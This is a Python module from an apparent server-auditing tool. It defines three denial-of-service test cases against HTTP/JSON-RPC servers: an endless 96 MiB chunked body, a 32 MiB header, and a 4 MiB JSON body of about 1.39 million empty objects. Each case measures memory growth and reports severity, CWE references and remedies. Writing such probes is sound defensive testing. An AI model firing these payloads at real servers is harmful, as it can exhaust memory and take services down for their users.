"""Requests that are larger than a server should hold: bodies, heads, and elements that unfold in memory."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING

from holdfast_attack.cases.http.knocking import control, knock
from holdfast_attack.link.messages import encoded
from holdfast_attack.link.reply import Reply
from holdfast_attack.link.session import Gone
from holdfast_attack.model import Case, Found, Inconclusive, Severity
from holdfast_attack.model.case import HTTP, Eras, advisory

if TYPE_CHECKING:
    from holdfast_attack.link.http import HttpSession
    from holdfast_attack.play.probe import Probe

MIB = 2**20
BODY, BODY_HELD = 96, 72
"""MiB that are sent, and MiB by which the memory then grows where all of it is held."""
HEAD, HEAD_HELD = 32, 24
ELEMENTS = 1_390_000
"""Empty objects in 4 MiB less some bytes: the largest body that many servers take."""
UNFOLDED = 64
"""MiB by which such a body may grow the memory: sixteen times what is sent. Measured: 100 MiB in Python; 2 to 8 where
elements are counted."""
WITHIN = 12.0
MARK = "this-id-stands-at-the-very-end"
CHUNKED: dict[str, str | None] = {"content-length": None, "transfer-encoding": "chunked"}


@dataclass(frozen=True, slots=True)
class Poured:
    """``whole``: the server took all of it. ``grown``: MiB at the peak; None when that cannot be seen."""

    reply: Reply
    whole: bool
    grown: int | None


async def _pour(session: HttpSession, pieces: Iterator[bytes]) -> Poured:
    """Send piece by piece until all is sent, or an answer or the end comes."""
    tree = session.tree
    before = None if tree is None else tree.rss()
    if tree is None or before is None:
        reply, whole = await _poured(session, pieces)
        return Poured(reply, whole, None)
    async with tree.watch(0.02) as watched:
        reply, whole = await _poured(session, pieces)
    return Poured(reply, whole, None if watched.peak is None else (watched.peak - before) // MIB)


async def _poured(session: HttpSession, pieces: Iterator[bytes]) -> tuple[Reply, bool]:
    connection = await session.open()
    answering = asyncio.create_task(connection.answer(WITHIN))
    whole = True
    try:
        for piece in pieces:
            await asyncio.sleep(0)  # a kernel that takes a piece at once leaves no turn to the reader
            if answering.done():
                whole = False
                break
            await connection.send(piece, WITHIN)
        done, _ = await asyncio.wait({answering}, timeout=WITHIN)
        return (answering.result().reply(0.0) if done else Reply(None)), whole
    except (Gone, TimeoutError):
        await asyncio.wait({answering}, timeout=1.0)
        return (answering.result().reply(0.0) if answering.done() else Reply(None)), False
    finally:
        answering.cancel()
        await asyncio.gather(answering, return_exceptions=True)
        connection.close()


async def _body(probe: Probe) -> int:
    session = await probe.http()
    await control(session)
    poured = await _pour(session, _long_body(session))
    held = (poured.reply.message or {}).get("id") == MARK
    if held or (poured.grown or 0) >= BODY_HELD:
        grown = "" if poured.grown is None else f"; its memory grew by {poured.grown} MiB"
        raise Found(f"it holds a body of {BODY} MiB{grown}", got=poured.reply.raw)
    return 1


def _long_body(session: HttpSession) -> Iterator[bytes]:
    """One message of so many MiB in chunks; its id stands at its end, so that who repeats it has read it all."""
    message = session.message("tools/list", {"note": "HERE"}, id=MARK)
    number = message.pop("id")
    first, _, last = encoded(message | {"id": number}).partition(b"HERE")
    yield session.request_bytes("POST", encoded(message), headers=CHUNKED).partition(b"\r\n\r\n")[0] + b"\r\n\r\n"
    yield _chunk(first)
    piece = _chunk(b"a" * MIB)
    for _ in range(BODY):
        yield piece
    yield _chunk(last) + b"0\r\n\r\n"


def _chunk(data: bytes) -> bytes:
    return f"{len(data):x}\r\n".encode() + data + b"\r\n"


async def _head(probe: Probe) -> int:
    session = await probe.http()
    await control(session)
    poured = await _pour(session, _long_head(session))
    if poured.reply.result is not None:
        raise Found(f"a request with a header of {HEAD} MiB is carried out", got=poured.reply.raw)
    if poured.whole and (poured.grown or 0) >= HEAD_HELD:
        raise Found(f"it holds a header of {HEAD} MiB: its memory grew by {poured.grown} MiB")
    return 1


def _long_head(session: HttpSession) -> Iterator[bytes]:
    sent = session.request_bytes("POST", encoded(session.message("tools/list")))
    line, _, rest = sent.partition(b"\r\n")
    yield line + b"\r\nx-long: "
    piece = b"a" * MIB
    for _ in range(HEAD):
        yield piece
    yield b"\r\n" + rest


async def _elements(probe: Probe) -> int:
    session = await probe.http()
    await control(session)
    tree = session.tree
    before = None if tree is None else tree.rss()
    if tree is None or before is None:
        raise Inconclusive("the memory of the server cannot be seen")
    many = b"[" + b",".join([b"{}"] * ELEMENTS) + b"]"
    message = encoded(session.message("tools/list", {"note": "HERE"})).replace(b'"HERE"', many)
    sent = session.request_bytes("POST", message)
    async with tree.watch(0.02) as watched:
        await knock(session, sent, WITHIN)
    grown = ((watched.peak or before) - before) // MIB
    if grown > UNFOLDED:
        raise Found(f"a body of 4 MiB grew its memory by {grown} MiB", sent=sent[:2_000])
    return 1


CASES = (
    Case(
        id="http.body-huge",
        title="A body without an end",
        severity=Severity.HIGH,
        sends=f"One message of {BODY} MiB, in chunks, without a length.",
        sound="Refuses it (413) or closes once it is longer than its bound.",
        reference=advisory("CWE-770: allocation without limits; RFC 9110, section 15.5.14 (413)"),
        remedy="Count what comes, and stop reading at a bound (4 MiB is usual).",
        play=_body,
        transports=HTTP,
        seconds=60.0,
    ),
    Case(
        id="http.headers-huge",
        title="A header without an end",
        severity=Severity.HIGH,
        sends=f"A request with one header of {HEAD} MiB.",
        sound="Refuses it (431 or 400) or closes once it is longer than its bound.",
        reference=advisory("CWE-770: allocation without limits; RFC 6585, section 5 (431)"),
        remedy="Bound the size of a request's head (64 KiB is usual).",
        play=_head,
        transports=HTTP,
        eras=Eras.ONCE,
        seconds=60.0,
    ),
    Case(
        id="http.elements",
        title="Small bodies that unfold in memory",
        severity=Severity.MEDIUM,
        sends=f"A message of 4 MiB with {ELEMENTS:,} empty objects.",
        sound=f"Refuses it, or its memory grows by less than {UNFOLDED} MiB; every client may send several at once.",
        reference=advisory("CVE-2026-111768: millions of elements within 4 MiB; CWE-409"),
        remedy="Count elements while parsing and stop at a bound.",
        play=_elements,
        transports=HTTP,
        seconds=60.0,
        advisories=("CVE-2026-111768",),
    ),
)
